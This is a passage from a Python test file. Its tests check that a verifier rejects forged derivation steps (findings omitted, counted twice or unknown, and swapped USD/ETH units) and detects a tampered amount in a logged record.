    outcome = verify.check(bundle({"a": FOLLOWED, "b": FOLLOWED}, log=[*LOG, *FINDINGS, TRACE]))
    told = [line for line in verify.lines(outcome) if "as a run computed it" in line]
    assert len(told) == 1
    assert told[0].startswith("a, b: it counts or adds up findings")


@pytest.mark.parametrize(
    ("forged", "why"),
    [
        ({"over": ["f-0"]}, "its steps give 2000"),  # a finding left out
        ({"over": ["f-0", "f-1", "f-1"]}, "something is counted twice"),
        ({"over": ["f-0", "f-9"]}, "f-9 is named and is not in the record shown"),
        ({"of": "received"}, "its steps give 3000"),  # what arrived, told as what was followed
        ({"unit": "ETH"}, "is printed in USD, and its steps are in ETH"),
    ],
)
def test_a_forged_step_over_findings_fails(forged, why):
    told = traced(derivation={"followed": FOLLOWED["derivation"]["followed"] | forged})
    assert told.verdict == "FAILED"
    assert why in told.why


def test_units_swapped_in_value_and_step_fail_by_what_the_findings_say():
    value = {"low": "0.0000000000025", "high": "0.0000000000025", "unit": "ETH"}
    step = FOLLOWED["derivation"]["followed"] | {"unit": "ETH"}
    told = traced(value=value, values={"followed": value}, derivation={"followed": step})
    assert (told.verdict, told.why) == ("FAILED", "f-0 is added up in ETH and is not in that unit")


def test_a_finding_whose_amount_was_changed_is_no_longer_in_the_log():
    files = bundle({"f": FOLLOWED}, log=[*LOG, *FINDINGS, TRACE])
    held = files["data/record/statements.jsonl"]
    assert b'"200000"' in held
    forged = rebagged({**files, "data/record/statements.jsonl": held.replace(b'"200000"', b'"200001"')})
    outcome = verify.check(forged)
    assert not outcome.sound
    assert outcome.faults
